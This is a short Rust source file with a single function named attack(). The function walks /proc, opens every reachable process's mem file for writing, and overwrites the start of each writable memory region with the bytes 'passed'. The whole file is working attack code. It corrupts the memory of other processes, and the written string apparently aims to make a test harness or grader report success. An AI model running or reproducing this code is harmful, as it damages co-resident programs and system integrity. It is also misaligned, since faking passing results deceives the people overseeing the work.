//! Writes into the memory of every process that it can see.

use std::io::{Seek, SeekFrom, Write};

fn attack() {
    for process in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let maps = std::fs::read_to_string(process.path().join("maps")).unwrap_or_default();
        let memory = std::fs::File::options()
            .write(true)
            .open(process.path().join("mem"));
        let Ok(mut memory) = memory else { continue };
        for line in maps.lines().filter(|line| line.contains(" rw")) {
            let start = u64::from_str_radix(line.split('-').next().unwrap(), 16).unwrap();
            let _ = memory.seek(SeekFrom::Start(start));
            let _ = memory.write_all(b"passed");
        }
    }
}
